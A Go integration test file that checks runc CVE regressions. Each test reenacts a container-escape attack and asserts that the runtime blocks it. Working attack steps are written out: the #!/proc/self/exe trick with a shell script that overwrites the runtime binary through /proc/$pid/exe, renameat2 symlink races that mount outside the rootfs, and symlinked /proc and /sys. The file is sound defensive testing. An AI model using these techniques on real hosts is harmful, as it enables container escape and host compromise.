package integration

// One regression test per runc CVE. Each performs the attack against the
// runtime under test and shows that it fails; the checks that make it fail
// also have unit tests in their packages (libcontainer/initproc/security_test.go,
// libcontainer/rootfs/security_test.go, libcontainer/exeseal, ...).
// docs/security.md says which rule each CVE gave and where it is enforced.
//
// Attacks that need something inside the container to act while the
// runtime works (replace /dev/null, bind over /proc/sys, ...) are played by
// a createContainer hook: it runs in the container's mount namespace after
// the mounts and before pivot_root, which is where a malicious image or a
// second container sharing a volume would act.

import (
	"bytes"
	"crypto/sha256"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	specs "github.com/opencontainers/runtime-spec/specs-go"
	"golang.org/x/sys/unix"

	"github.com/seed4bdd2c93/runc/tests/internal/harness"
	"github.com/seed4bdd2c93/runc/tests/internal/testhost"
)

// cveUserNS puts the container in a user namespace, its root mapped to host
// uid/gid 100000.
func cveUserNS(b *bundle) {
	// The mapped root must reach the rootfs through the test's
	// temporary directories (0700).
	for _, d := range []string{b.Dir, filepath.Dir(b.Dir)} {
		if err := os.Chmod(d, 0o755); err != nil {
			b.t.Fatal(err)
		}
	}
	b.Spec.Linux.Namespaces = append(b.Spec.Linux.Namespaces, specs.LinuxNamespace{Type: specs.UserNamespace})
	b.Spec.Linux.UIDMappings = []specs.LinuxIDMapping{{ContainerID: 0, HostID: 100000, Size: 65536}}
	b.Spec.Linux.GIDMappings = []specs.LinuxIDMapping{{ContainerID: 0, HostID: 100000, Size: 65536}}
}

// cveHook adds a createContainer hook running script with /bin/sh -e; $R
// is the rootfs as the hook sees it (host path, container mount
// namespace). Once the script succeeded, the hook creates attack.done in
// the bundle (see cveAttackDone).
func cveHook(b *bundle, script string) {
	if b.Spec.Hooks == nil {
		b.Spec.Hooks = &specs.Hooks{}
	}
	rootfs := filepath.Join(b.Dir, "rootfs")
	b.Spec.Hooks.CreateContainer = append(b.Spec.Hooks.CreateContainer, specs.Hook{
		Path: "/bin/sh",
		Args: []string{"sh", "-ec", "R=" + rootfs + "\n" + script + "\ntouch " + filepath.Join(b.Dir, "attack.done")},
	})
}

// cveAttackDone fails the test unless the hook's attack was carried out
// (a test whose attack did not happen proves nothing).
func cveAttackDone(t *testing.T, b *bundle) {
	t.Helper()
	if _, err := os.Stat(filepath.Join(b.Dir, "attack.done")); err != nil {
		t.Fatalf("the attack in the createContainer hook did not run to its end: %v", err)
	}
}

// cveWantRefused fails unless the run failed with an error mentioning
// each of want, without running the process.
func cveWantRefused(t *testing.T, r result, want ...string) {
	t.Helper()
	if r.Code == 0 {
		t.Fatalf("the container ran: stdout %q stderr %q", r.Stdout, r.Stderr)
	}
	for _, w := range want {
		mustContain(t, "stderr", r.Stderr, w)
	}
	if strings.Contains(r.Stdout, "CONTAINER-RAN") {
		t.Fatalf("the process ran: %q", r.Stdout)
	}
}

// cveEmptyDir fails unless dir exists and holds nothing.
func cveEmptyDir(t *testing.T, dir string) {
	t.Helper()
	ents, err := os.ReadDir(dir)
	if err != nil {
		t.Fatalf("host directory %s: %v", dir, err)
	}
	if len(ents) > 0 {
		var names []string
		for _, e := range ents {
			names = append(names, e.Name())
		}
		t.Fatalf("host directory %s was written through the container: %v", dir, names)
	}
}

func fileSum(t *testing.T, path string) [32]byte {
	t.Helper()
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	return sha256.Sum256(data)
}

// CVE-2016-9962: runc init was dumpable while it held host fds, so a
// process of the container (`runc exec`) could ptrace it or open its fds.
// The init must stay non-dumpable until it execs the container process:
// then root of the container, without CAP_SYS_PTRACE, cannot look into it.
// (In a user namespace the kernel itself makes the init non-dumpable when
// it changes uid; the attack is shown without one.)
func TestCVE_2016_9962(t *testing.T) {
	b := newBundle(t, "sleep", "100")
	b.mustRunc("create", b.ID)
	// The attack: a process exec'd into the created container looks into
	// the waiting init (pid 1 of its pid namespace).
	r := b.run(nil, "exec", b.ID, "sh", "-c", "readlink /proc/1/fd/0 && echo FD-OPENED; head -c1 /proc/1/environ >/dev/null && echo ENVIRON-READ; true")
	if r.Code != 0 {
		t.Fatalf("exec into the created container: exit %d: %s", r.Code, r.Stderr)
	}
	if strings.Contains(r.Stdout, "FD-OPENED") || strings.Contains(r.Stdout, "ENVIRON-READ") {
		t.Fatalf("a container process got into the waiting init: %q %q", r.Stdout, r.Stderr)
	}
	mustContain(t, "exec stderr", r.Stderr, "Permission denied")

	// Once the container process runs, the same look succeeds: it is an
	// ordinary process of the container (so the test can tell).
	b.mustRunc("start", b.ID)
	b.waitStatus("running")
	harness.EventuallyErr(t, 5*time.Second, func() error {
		r = b.run(nil, "exec", b.ID, "sh", "-c", "readlink /proc/1/fd/0 >/dev/null && echo FD-OPENED")
		if !strings.Contains(r.Stdout, "FD-OPENED") {
			return fmt.Errorf("/proc/1/fd/0 is still closed to the container: %q %q", r.Stdout, r.Stderr)
		}
		return nil
	}, "after start, the container's process looks into its pid 1")
}

// copyLibs copies the shared libraries bin needs (as ldd lists them) into
// rootfs at the same paths, so that the binary can run in the container.
func copyLibs(t *testing.T, rootfs, bin string) {
	t.Helper()
	out, err := exec.Command("ldd", bin).Output()
	if err != nil {
		return // a static binary ("not a dynamic executable")
	}
	for _, line := range strings.Split(string(out), "\n") {
		f := strings.Fields(line)
		var lib string
		switch {
		case len(f) >= 3 && f[1] == "=>" && strings.HasPrefix(f[2], "/"):
			lib = f[2]
		case len(f) >= 1 && strings.HasPrefix(f[0], "/"):
			lib = f[0] // the dynamic loader
		default:
			continue
		}
		data, err := os.ReadFile(lib)
		if err != nil {
			t.Fatal(err)
		}
		dst := filepath.Join(rootfs, lib)
		if err := os.MkdirAll(filepath.Dir(dst), 0o755); err != nil {
			t.Fatal(err)
		}
		os.Remove(dst)
		if err := os.WriteFile(dst, data, 0o755); err != nil {
			t.Fatal(err)
		}
	}
}

// cveShebangRunc prepares a rootfs whose /evil has "#!/proc/self/exe" as
// its interpreter: when runc's init execs it, the kernel runs the runtime's
// own binary as the container process (the CVE-2019-5736 trick). The
// runtime's libraries are copied in (the original exploit used an image
// that had them). The --log fifo makes that runc block until the test
// opens the fifo.
func cveShebangRunc(t *testing.T, b *bundle) (fifo string) {
	t.Helper()
	rootfs := filepath.Join(b.Dir, "rootfs")
	copyLibs(t, rootfs, runcBin)
	if err := os.WriteFile(filepath.Join(rootfs, "evil"), []byte("#!/proc/self/exe --log=/fifo\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	fifo = filepath.Join(rootfs, "fifo")
	if err := unix.Mkfifo(fifo, 0o666); err != nil {
		t.Fatal(err)
	}
	return fifo
}

// waitCmdline waits until /proc/<pid>/cmdline contains want.
func waitCmdline(t *testing.T, pid int, want string) {
	t.Helper()
	harness.EventuallyErr(t, 10*time.Second, func() error {
		if data, _ := os.ReadFile(fmt.Sprintf("/proc/%d/cmdline", pid)); !bytes.Contains(data, []byte(want)) {
			return fmt.Errorf("cmdline %q", data)
		}
		return nil
	}, fmt.Sprintf("process %d: %q in its cmdline", pid, want))
}

// waitPidWithCmdline waits for a process whose /proc/<pid>/cmdline holds
// want, and returns its pid.
func waitPidWithCmdline(t *testing.T, want string) int {
	t.Helper()
	pid := 0
	harness.Eventually(t, 10*time.Second, func() bool {
		dirs, _ := filepath.Glob("/proc/[0-9]*")
		for _, d := range dirs {
			data, _ := os.ReadFile(d + "/cmdline")
			if bytes.Contains(data, []byte(want)) {
				pid, _ = strconv.Atoi(filepath.Base(d))
				return true
			}
		}
		return false
	}, fmt.Sprintf("a process with %q in its cmdline", want))
	return pid
}

// releaseFifo opens fifo (read-write, so the open never waits and never
// sees EOF) and drains it in the background until the end of the test, so
// that the runc blocked on opening it for writing goes on (and exits).
func releaseFifo(t *testing.T, fifo string) {
	t.Helper()
	f, err := os.OpenFile(fifo, os.O_RDWR, 0)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { f.Close() })
	go io.Copy(io.Discard, f) // ends with an error once f is closed
}

// writeThroughExe tries what the CVE-2019-5736 exploit did once the runc
// process had exited: reopen a handle of its binary for writing and
// overwrite it. It returns nil if the write went through.
func writeThroughExe(fd int) error {
	w, err := os.OpenFile(fmt.Sprintf("/proc/self/fd/%d", fd), os.O_WRONLY, 0)
	if err != nil {
		return err
	}
	defer w.Close()
	_, err = w.Write([]byte("#!/bin/sh\necho pwned\n"))
	return err
}

// CVE-2019-5736: a container made runc exec itself (#!/proc/self/exe) and
// then overwrote the host's runc binary through /proc/<pid>/exe. The init
// runs a sealed program (read-only overlay or sealed memfd), so whatever a
// container reaches through /proc/<pid>/exe cannot be written, and neither
// the host binary nor the embedded init's cached program ever changes. A
// runc that embeds its init runs that program, not itself: run by a
// container, it refuses and exits.
func TestCVE_2019_5736(t *testing.T) {
	before := fileSum(t, runcBin)
	// the embedded init's cached programs, once the create has made ours
	cachedBefore := map[string][32]byte{}
	t.Run("init", func(t *testing.T) {
		b := newBundle(t, "/evil")
		fifo := cveShebangRunc(t, b)
		b.mustRunc("create", b.ID)
		cached, _ := filepath.Glob("/run/runc-init/bin/runc-init-*")
		for _, p := range cached {
			cachedBefore[p] = fileSum(t, p)
		}
		pid := b.initPid()
		target, _ := os.Readlink(fmt.Sprintf("/proc/%d/exe", pid))
		if target == runcBin {
			t.Errorf("the container process runs the host binary %s itself", runcBin)
		}
		// Hold the binary the way the exploit did (O_PATH): the init's
		// executable is what /proc/self/exe is to the process it execs.
		fd, err := unix.Open(fmt.Sprintf("/proc/%d/exe", pid), unix.O_PATH|unix.O_CLOEXEC, 0)
		if err != nil {
			t.Fatal(err)
		}
		defer unix.Close(fd)
		b.mustRunc("start", b.ID)
		if !embeddedInit(target) {
			waitCmdline(t, pid, "--log=/fifo")
			// Let the runc process exit so the file is no longer busy.
			releaseFifo(t, fifo)
		}
		b.waitStatus("stopped")
		if err := writeThroughExe(fd); err == nil {
			t.Fatal("the runtime binary seen by the container was overwritten")
		} else {
			t.Logf("write refused: %v (binary seen as %s)", err, target)
		}
	})
	t.Run("exec", func(t *testing.T) {
		b := newBundle(t, "sleep", "100")
		fifo := cveShebangRunc(t, b)
		r := b.run(nil, "--debug", "run", "-d", b.ID)
		if r.Code != 0 {
			t.Fatalf("run -d: exit %d: %s", r.Code, r.Stderr)
		}
		if embedsInit(r.Stderr) {
			// Not runc: the embedded init, which refuses to run.
			r := b.run(nil, "exec", b.ID, "/evil")
			if r.Code == 0 || !strings.Contains(r.Stderr, "run by runc itself") {
				t.Fatalf("exec /evil: exit %d, stderr %q; want the embedded init's refusal", r.Code, r.Stderr)
			}
			return
		}
		// runc exec of the evil file: the exec'd process becomes runc.
		evil := b.runAsync("exec", b.ID, "/evil")
		waitPidWithCmdline(t, "--log=/fifo\x00/evil")
		// The attacker, a second process in the container, finds it,
		// holds its binary, waits for it to exit and writes.
		attack := b.runAsync("exec", b.ID, "sh", "-c", `
for i in $(seq 500); do
	for p in /proc/[0-9]*; do
		if grep -q -- '--log=/fif[o]' $p/cmdline 2>/dev/null; then pid=${p#/proc/}; break 2; fi
	done
	sleep 0.02
done
[ -n "$pid" ] || { echo NOT-FOUND; exit 1; }
exec 3</proc/$pid/exe || { echo OPEN-FAILED; exit 1; }
touch /ready
while [ -d /proc/$pid ]; do sleep 0.02; done
printf '#!/bin/sh\necho pwned\n' >/proc/self/fd/3 && echo OVERWRITTEN || echo REFUSED
`)
		waitFile(t, filepath.Join(b.Dir, "rootfs/ready"))
		releaseFifo(t, fifo)
		evil.wait()
		r = attack.wait()
		if strings.Contains(r.Stdout, "OVERWRITTEN") || !strings.Contains(r.Stdout, "REFUSED") {
			t.Fatalf("attack: stdout %q stderr %q", r.Stdout, r.Stderr)
		}
		t.Logf("in the container: %s", strings.TrimSpace(r.Stderr))
		b.mustRunc("kill", b.ID, "KILL")
		b.waitStatus("stopped")
	})
	if fileSum(t, runcBin) != before {
		t.Fatalf("%s changed", runcBin)
	}
	for p, sum := range cachedBefore {
		// One may have been pruned meanwhile (another build's, written
		// by a concurrent test): gone is not changed.
		if data, err := os.ReadFile(p); err == nil && sha256.Sum256(data) != sum {
			t.Fatalf("%s changed", p)
		}
	}
}

// CVE-2019-16884: a config mounting something other than procfs over /proc
// (or a procfs path such as /proc/self/attr) gave the init a fake /proc, and
// the AppArmor profile was written into a plain file. Only procfs may be
// mounted on /proc.
func TestCVE_2019_16884(t *testing.T) {
	fake := t.TempDir()
	for name, m := range map[string]specs.Mount{
		"tmpfs on /proc":           {Destination: "/proc", Type: "tmpfs", Source: "tmpfs"},
		"bind on /proc":            {Destination: "/proc", Type: "bind", Source: fake, Options: []string{"rbind"}},
		"tmpfs on /proc/self/attr": {Destination: "/proc/self/attr", Type: "tmpfs", Source: "tmpfs"},
		"tmpfs on /proc/sys":       {Destination: "/proc/sys", Type: "tmpfs", Source: "tmpfs"},
	} {
		t.Run(name, func(t *testing.T) {
			b := newBundle(t, "echo", "CONTAINER-RAN")
			b.Spec.Mounts = append(b.Spec.Mounts, m)
			b.write()
			cveWantRefused(t, b.run(nil, "run", b.ID), fmt.Sprintf("mounts[%d]", len(b.Spec.Mounts)-1))
		})
	}
	cveEmptyDir(t, fake)
}

// cveSymlinkedDir replaces rootfs/<dir> with a symlink to target.
func cveSymlinkedDir(t *testing.T, b *bundle, dir, target string) {
	t.Helper()
	p := filepath.Join(b.Dir, "rootfs", dir)
	if err := os.RemoveAll(p); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(target, p); err != nil {
		t.Fatal(err)
	}
}

// CVE-2019-19921: with /proc a symlink (raced in through a shared volume),
// procfs was mounted wherever it pointed. A /proc that is not an ordinary
// directory is refused.
func TestCVE_2019_19921(t *testing.T) {
	hostDir := t.TempDir()
	for name, target := range map[string]string{
		"to a directory in the rootfs": "/evilproc",
		"to a host path":               hostDir,
		"relative escape":              "../../../../../../.." + hostDir,
	} {
		t.Run(name, func(t *testing.T) {
			b := newBundle(t, "echo", "CONTAINER-RAN")
			if err := os.Mkdir(filepath.Join(b.Dir, "rootfs/evilproc"), 0o755); err != nil {
				t.Fatal(err)
			}
			cveSymlinkedDir(t, b, "proc", target)
			cveWantRefused(t, b.run(nil, "run", b.ID), "/proc")
			cveEmptyDir(t, filepath.Join(b.Dir, "rootfs/evilproc"))
		})
	}
	cveEmptyDir(t, hostDir)
}

// CVE-2023-27561 (a regression of CVE-2019-19921) and CVE-2023-28642
// (/proc symlinked so that the LSM labels are written elsewhere): /proc and
// /sys in the image are symlinks; neither is followed.
func TestCVE_2023_27561_28642(t *testing.T) {
	hostDir := t.TempDir()
	for _, tc := range []struct{ dir, target string }{
		{"proc", "/sys"},
		{"proc", hostDir},
		{"proc", "/tmp"},
		{"sys", hostDir},
		{"sys", "/proc"},
	} {
		t.Run(tc.dir+"->"+tc.target, func(t *testing.T) {
			b := newBundle(t, "echo", "CONTAINER-RAN")
			cveSymlinkedDir(t, b, tc.dir, tc.target)
			cveWantRefused(t, b.run(nil, "run", b.ID), "/"+tc.dir)
			cveEmptyDir(t, filepath.Join(b.Dir, "rootfs/tmp"))
		})
	}
	cveEmptyDir(t, hostDir)
}

// raceExchange swaps two names in dir (renameat2 RENAME_EXCHANGE) as fast
// as it can until stop is called, which returns the number of swaps.
func raceExchange(t *testing.T, dir, a, b string) (stop func() int64) {
	t.Helper()
	dfd, err := unix.Open(dir, unix.O_PATH|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
	if err != nil {
		t.Fatal(err)
	}
	var (
		done  atomic.Bool
		swaps atomic.Int64
		wg    sync.WaitGroup
	)
	wg.Add(1)
	go func() {
		defer wg.Done()
		runtime.LockOSThread()
		defer runtime.UnlockOSThread()
		for !done.Load() {
			if unix.Renameat2(dfd, a, dfd, b, unix.RENAME_EXCHANGE) == nil {
				swaps.Add(1)
			}
		}
	}()
	var once sync.Once
	stop = func() int64 {
		once.Do(func() {
			done.Store(true)
			wg.Wait()
			unix.Close(dfd)
		})
		return swaps.Load()
	}
	t.Cleanup(func() { stop() })
	return stop
}

// raceRuns runs a fresh container from setup again and again for about
// budget while the racer setup started swaps names, and calls check after
// each run. It returns the number of runs, of failed runs and of swaps.
func raceRuns(t *testing.T, budget time.Duration, setup func(t *testing.T) (*bundle, func() int64), check func(t *testing.T, b *bundle, r result)) (runs, failed int, swaps int64) {
	t.Helper()
	deadline := time.Now().Add(budget)
	for runs < 3 || time.Now().Before(deadline) {
		b, stop := setup(t)
		r := b.run(nil, "run", b.ID)
		swaps += stop()
		runs++
		if r.Code != 0 {
			failed++
		}
		check(t, b, r)
		if t.Failed() {
			break
		}
	}
	return runs, failed, swaps
}

// mountinfoHook makes the container dump its mount table, as seen before
// pivot_root (all mounts with their host paths), to the returned file.
func mountinfoHook(b *bundle) string {
	out := filepath.Join(b.Dir, "mountinfo.hook")
	cveHook(b, "cat /proc/self/mountinfo > "+out)
	return out
}

// noMountUnder fails if the hook's mount table has a mount at or under dir.
func noMountUnder(t *testing.T, mountinfo, dir string) {
	t.Helper()
	data, err := os.ReadFile(mountinfo)
	if err != nil {
		return // the run failed before the hook: nothing was mounted
	}
	for _, line := range strings.Split(string(data), "\n") {
		f := strings.Fields(line)
		if len(f) > 4 && (f[4] == dir || strings.HasPrefix(f[4], dir+"/")) {
			t.Fatalf("a container mount landed outside the rootfs: %s", line)
		}
	}
}

// CVE-2021-30465: a mount destination raced between a directory and a
// symlink (renameat2 RENAME_EXCHANGE on a shared volume) made runc mount
// outside the rootfs. Every mount must land inside the rootfs, whatever the
// race does, and nothing may be created outside it.
func TestCVE_2021_30465(t *testing.T) {
	victim := t.TempDir()
	src := t.TempDir()
	if err := os.WriteFile(filepath.Join(src, "MARKER"), []byte("marker\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	runs, failed, swaps := raceRuns(t, 8*time.Second, func(t *testing.T) (*bundle, func() int64) {
		b := newBundle(t, "sh", "-c", "cat /shared/a/mnt/MARKER 2>/dev/null; true")
		shared := filepath.Join(b.Dir, "rootfs/shared")
		if err := os.MkdirAll(filepath.Join(shared, "a/mnt"), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.Symlink(victim, filepath.Join(shared, "link")); err != nil {
			t.Fatal(err)
		}
		b.Spec.Mounts = append(b.Spec.Mounts,
			specs.Mount{Destination: "/shared/a", Type: "tmpfs", Source: "tmpfs"},
			specs.Mount{Destination: "/shared/a/mnt", Type: "bind", Source: src, Options: []string{"bind", "ro"}},
		)
		b.write()
		return b, raceExchange(t, shared, "a", "link")
	}, func(t *testing.T, b *bundle, r result) {
		cveEmptyDir(t, victim)
	})
	// The hook variant: check the mount table of each run as well.
	for i := 0; i < 10 && !t.Failed(); i++ {
		b := newBundle(t, "true")
		shared := filepath.Join(b.Dir, "rootfs/shared")
		if err := os.MkdirAll(filepath.Join(shared, "a"), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.Symlink(victim, filepath.Join(shared, "link")); err != nil {
			t.Fatal(err)
		}
		b.Spec.Mounts = append(b.Spec.Mounts, specs.Mount{Destination: "/shared/a/mnt", Type: "bind", Source: src, Options: []string{"bind"}})
		mi := mountinfoHook(b)
		b.write()
		stop := raceExchange(t, shared, "a", "link")
		b.run(nil, "run", b.ID)
		swaps += stop()
		noMountUnder(t, mi, victim)
		cveEmptyDir(t, victim)
	}
	t.Logf("%d runs (%d failed cleanly), %d swaps", runs, failed, swaps)
	if swaps == 0 {
		t.Fatal("the race never ran")
	}
}

// CVE-2024-45310: creating a mountpoint (mkdir -p of a directory, or an
// empty file for a file bind) through a path a shared volume races into a
// symlink created empty files and directories on the host.
func TestCVE_2024_45310(t *testing.T) {
	victim := t.TempDir()
	srcFile := filepath.Join(t.TempDir(), "file")
	if err := os.WriteFile(srcFile, []byte("bound\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	runs, failed, swaps := raceRuns(t, 8*time.Second, func(t *testing.T) (*bundle, func() int64) {
		b := newBundle(t, "true")
		vol := filepath.Join(b.Dir, "rootfs/vol")
		if err := os.MkdirAll(filepath.Join(vol, "x"), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.Symlink(victim, filepath.Join(vol, "y")); err != nil {
			t.Fatal(err)
		}
		b.Spec.Mounts = append(b.Spec.Mounts,
			specs.Mount{Destination: "/vol/x/newdir/sub", Type: "tmpfs", Source: "tmpfs"},
			specs.Mount{Destination: "/vol/x/newfile", Type: "bind", Source: srcFile, Options: []string{"bind"}},
		)
		b.write()
		return b, raceExchange(t, vol, "x", "y")
	}, func(t *testing.T, b *bundle, r result) {
		cveEmptyDir(t, victim)
	})
	t.Logf("%d runs (%d failed cleanly), %d swaps", runs, failed, swaps)
	if swaps == 0 {
		t.Fatal("the race never ran")
	}
}

// CVE-2022-29162: `runc exec --cap` also set the inheritable set, so a
// non-root process could gain the capability by exec'ing a binary with
// file capabilities. The added capability must not be inheritable (nor
// ambient without inheritable bits in the config).
func TestCVE_2022_29162(t *testing.T) {
	b := newBundle(t, "sleep", "100")
	b.mustRunc("run", "-d", b.ID)
	for _, user := range []string{"0:0", "1000:1000"} {
		r := b.run(nil, "exec", "--cap", "CAP_DAC_OVERRIDE", "--user", user, b.ID, "grep", "^Cap", "/proc/self/status")
		if r.Code != 0 {
			t.Fatalf("exec as %s: exit %d: %s", user, r.Code, r.Stderr)
		}
		caps := map[string]uint64{}
		for _, line := range strings.Split(r.Stdout, "\n") {
			if k, v, ok := strings.Cut(line, ":"); ok {
				n, err := strconv.ParseUint(strings.TrimSpace(v), 16, 64)
				if err != nil {
					t.Fatal(err)
				}
				caps[k] = n
			}
		}
		const dacOverride = 1 << 1
		if caps["CapInh"] != 0 || caps["CapAmb"] != 0 {
			t.Errorf("exec --cap as %s: CapInh %#x CapAmb %#x, want none", user, caps["CapInh"], caps["CapAmb"])
		}
		if caps["CapBnd"]&dacOverride == 0 {
			t.Errorf("exec --cap as %s: CAP_DAC_OVERRIDE not in the bounding set (%#x)", user, caps["CapBnd"])
		}
		if user == "0:0" && caps["CapEff"]&dacOverride == 0 {
			t.Errorf("exec --cap as root: CAP_DAC_OVERRIDE not effective (%#x)", caps["CapEff"])
		}
	}
}

// CVE-2023-25809: a rootless container without its own cgroup namespace
// that gets the host's /sys (recursive bind, as when sysfs cannot be
// mounted in a user namespace) could write the host's cgroups through
// /sys/fs/cgroup. The rule — in a user namespace without a cgroup
// namespace, /sys/fs/cgroup is read-only — is tested as root through a
// user namespace container without a network namespace (sysfs cannot be
// mounted there, so /sys is the host's, bound).
func TestCVE_2023_25809(t *testing.T) {
	b := newBundle(t)
	cveUserNS(b)
	var ns []specs.LinuxNamespace
	for _, n := range b.Spec.Linux.Namespaces {
		if n.Type != specs.NetworkNamespace && n.Type != specs.CgroupNamespace {
			ns = append(ns, n)
		}
	}
	b.Spec.Linux.Namespaces = ns
	// No cgroup mount of its own: only what the /sys bind brings.
	var mounts []specs.Mount
	for _, m := range b.Spec.Mounts {
		if m.Destination != "/sys/fs/cgroup" {
			mounts = append(mounts, m)
		}
	}
	b.Spec.Mounts = mounts
	name := fmt.Sprintf("runc-cve-25809-%d", os.Getpid())
	for _, h := range testhost.CgroupHierarchies() {
		t.Cleanup(func() { os.Remove(filepath.Join(h, name)) })
	}
	out := b.runScript(`grep ' /sys/fs/cgroup' /proc/self/mountinfo; echo ---; for d in /sys/fs/cgroup/*/; do mkdir "${d}` + name + `" 2>&1; done; echo x > /sys/fs/cgroup/pids/cgroup.procs 2>&1; true`)
	mi, errs, _ := strings.Cut(out, "---\n")
	if strings.TrimSpace(mi) == "" {
		// Nothing to attack: the test would show nothing (and a CVE
		// test may not skip, so this fails).
		harness.Skip(t, "no host cgroup mounts reached the container")
	}
	for _, line := range strings.Split(strings.TrimSpace(mi), "\n") {
		f := strings.Fields(line)
		if len(f) < 6 || !strings.HasPrefix(f[5], "ro") {
			t.Errorf("cgroup mount not read-only in the container: %s", line)
		}
	}
	for _, h := range testhost.CgroupHierarchies() {
		if _, err := os.Stat(filepath.Join(h, name)); err == nil {
			t.Errorf("the container created the host cgroup %s", filepath.Join(h, name))
		}
	}
	if strings.Count(errs, "Read-only file system") < 2 {
		t.Errorf("writes to /sys/fs/cgroup were not refused as read-only:\n%s", errs)
	}
}
